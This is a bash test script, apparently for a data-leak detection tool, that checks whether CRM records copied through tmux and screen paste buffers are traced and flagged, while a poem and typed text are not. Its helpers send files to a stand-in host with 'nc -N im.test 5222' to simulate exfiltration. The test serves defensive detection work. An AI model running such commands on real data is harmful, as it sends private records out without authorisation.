#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Text consoles. Answers of the CRM go into a paste buffer of tmux, and of screen; out of it into a
# file, and by a paste into a program that runs in another window; from there to a chat. What is
# typed in the same windows is nobody's business, and neither is a poem.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
needs_programs tmux screen
set_the_stage
# screen asks who she is.
{
	cat /etc/passwd
	echo "alice:x:$employee_uid:$employee_uid::$home:/bin/sh"
} >/etc/netns/weir-employee/passwd

has_arrived() { # BYTES
	[ "$(received_bytes im.test)" -eq "$1" ]
}

# then_it_leaks FILE: alice sends it, and the incident has all of it.
then_it_leaks() {
	local bytes

	bytes=$(stat -c %s "$home/$1")
	alice_does <<-END
		nc -N im.test 5222 <$1
	END
	arrived=$((arrived + bytes)) leaked=$((leaked + bytes))
	then_it "$1 has arrived ($bytes bytes)" eventually 10 has_arrived "$arrived"
	soon "and is in the incident, to the byte" \
		incidents_say "sum(i['bytes_out'] for i in d) == $leaked and {s['name'] for i in d for s in i['sources']} == {'crm.test'}"
}

then_it_is_nobodys_business() { # FILE
	alice_does <<-END
		nc -N im.test 5222 <$1
	END
	arrived=$((arrived + $(stat -c %s "$home/$1")))
	then_it "$1 has arrived" eventually 10 has_arrived "$arrived"
	weir_was_awake
	then_it "and is in no incident" \
		incidents_say "sum(i['bytes_out'] for i in d) == $leaked"
}

# in_the_lineage WHAT EXE DIRECTION KIND
in_the_lineage() {
	soon "the lineage has: $1" \
		incidents_say "any(s['app']['exe'].endswith('/$2') and s['direction'] == '$3' and s['object']['kind'] == '$4' for s in d[0]['lineage'])"
}

crm_serves crm.test
store_serves im.test 5222
weir_watches
arrived=0 leaked=0

say "a poem goes through tmux"
alice_does <<'END'
export TMUX_TMPDIR=$HOME
echo "Before my bed the moon is shining bright, it seems to me like frost upon the ground" >poem.txt
tmux -f /dev/null new-session -d -s desk 'cat >poem-pasted.txt'
tmux load-buffer poem.txt
tmux paste-buffer -t desk
until [ "$(stat -c %s poem-pasted.txt)" -eq "$(stat -c %s poem.txt)" ]; do sleep 0.1; done
END
then_it_is_nobodys_business poem-pasted.txt

say "answers of the CRM go into a paste buffer of tmux, and out of it into a file"
alice_does <<'END'
export TMUX_TMPDIR=$HOME
curl -sS https://crm.test/policy/P202070001 >>answer.json
curl -sS https://crm.test/policy/P202070002 >>answer.json
tmux load-buffer answer.json
tmux save-buffer tmux-saved.json
END
then_it_leaks tmux-saved.json
in_the_lineage "tmux reads the answers" tmux in file
in_the_lineage "tmux hands them to its server, by its socket" tmux in unix
in_the_lineage "tmux writes the file" tmux out file

say "and by a paste into a program in another window"
alice_does <<'END'
export TMUX_TMPDIR=$HOME
tmux new-window -d -t desk -n other 'cat >tmux-pasted.json'
tmux paste-buffer -t desk:other
until [ "$(stat -c %s tmux-pasted.json)" -eq "$(stat -c %s answer.json)" ]; do sleep 0.1; done
END
then_it_leaks tmux-pasted.json
bytes=$(stat -c %s "$home/answer.json")
for step in out in; do
	soon "the terminal has the very bytes ($step)" \
		incidents_say "[s['bytes'] for i in d for s in i['lineage'] if s['object']['kind'] == 'terminal' and s['direction'] == '$step'] == [$bytes]"
done
"$weir" show 1 --data "$data" >"$work/show.txt" 2>&1
then_it "the story says that it was pasted" grep -q "tmux pasted into a terminal  $bytes bytes" \
	"$work/show.txt"
then_it "and read where it was" grep -q "cat read from a terminal  $bytes bytes" "$work/show.txt"

say "what is typed there is typed by her"
alice_does <<'END'
export TMUX_TMPDIR=$HOME
tmux new-window -d -t desk -n typed 'cat >typed.txt'
tmux send-keys -t desk:typed 'call him back' Enter
until [ -s typed.txt ]; do sleep 0.1; done
END
then_it_is_nobodys_business typed.txt

say "screen does the same"
alice_does <<'END'
export SCREENDIR=$HOME/.screen
mkdir -m 0700 "$SCREENDIR"
screen -c /dev/null -dmS desk sh -c 'cat >screen-pasted.json'
until screen -S desk -Q windows >/dev/null; do sleep 0.1; done
screen -S desk -X readbuf "$HOME/answer.json"
screen -S desk -X writebuf "$HOME/screen-saved.json"
until [ "$(stat -c %s screen-saved.json 2>/dev/null)" = "$(stat -c %s answer.json)" ]; do sleep 0.1; done
screen -S desk -p 0 -X paste .
until [ "$(stat -c %s screen-pasted.json)" -eq "$(stat -c %s answer.json)" ]; do sleep 0.1; done
END
then_it_leaks screen-saved.json
then_it_leaks screen-pasted.json
in_the_lineage "screen pastes" screen out terminal
